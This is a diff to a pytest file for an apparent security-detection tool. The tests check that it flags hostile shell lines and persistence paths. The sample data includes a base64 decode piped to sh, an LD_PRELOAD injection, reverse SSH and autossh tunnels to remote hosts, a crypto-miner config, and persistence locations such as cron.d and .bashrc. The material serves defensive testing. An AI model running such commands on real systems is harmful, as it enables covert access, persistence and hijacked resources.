@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from stopgap.orchestrator.findings import judge, shipped_rules
+from stopgap.orchestrator.findings.pattern import matching, search
 from stopgap.orchestrator.findings.provenance.acts import acts_of
 from stopgap.orchestrator.findings.provenance.commands import programs
 from stopgap.orchestrator.findings.provenance.mechanisms import MECHANISMS, mechanisms_of
@@ -62,13 +63,18 @@ def test_places_are_told_apart_and_developers_tools_are_not_hidden() -> None:
         ("echo aGk= | base64 -d | sh", "decode"),
         ("(nohup /opt/x &)", "runs on behind"),
         ("export LD_PRELOAD=/usr/lib/x.so", "library before others"),
+        ("/usr/bin/ssh -N -R 0.0.0.0:2200:localhost:22 t@203.0.113.64", "tunnel"),
+        ("autossh -M 0 -fND 1080 ops@198.51.100.61", "tunnel"),
+        ('{"donate-level": 0, "pools": []}', "miner"),
     ],
 )
 def test_a_line_is_known_by_what_it_does(line: str, act: str) -> None:
     assert act in acts_of(line)
 
 
-@pytest.mark.parametrize("line", ["ls -l | grep x", "curl -I https://example.com", "base64 -d a > b", "make && ./a"])
+@pytest.mark.parametrize(
+    "line", ["ls -l | grep x", "curl -I https://example.com", "base64 -d a > b", "make && ./a", "ssh db ls -R /srv"]
+)
 def test_daily_work_does_none_of_that(line: str) -> None:
     assert acts_of(line) == ()
     assert purposes(line) == ()
@@ -88,6 +94,16 @@ def test_each_mechanism_has_a_name_and_a_pattern_that_some_path_fits() -> None:
     }.items():
         assert name in {each.name for each in mechanisms_of(path)}
     assert mechanisms_of("/home/a/notes.txt") == ()
+
+
+@pytest.mark.parametrize("path", [
+    "/etc/cron.d/x", "/etc/rsyslog.d/x.conf", "/etc/dnf/plugins/x.conf", "/root/.bashrc", "/etc/\udcff", "",
+    "x" * 5000, "/etc/perl/x.pm", "/etc/needrestart/x", "/etc/needrestart/iucode.conf", "/home/a/.config/i3/config",
+])  # fmt: skip
+def test_all_mechanisms_of_a_file_are_found_in_their_order(path: str) -> None:
+    assert matching([each.paths for each in MECHANISMS])(path) == tuple(
+        place for place, each in enumerate(MECHANISMS) if search(each.paths, path) is not None
+    )
 
 
 @pytest.mark.parametrize(
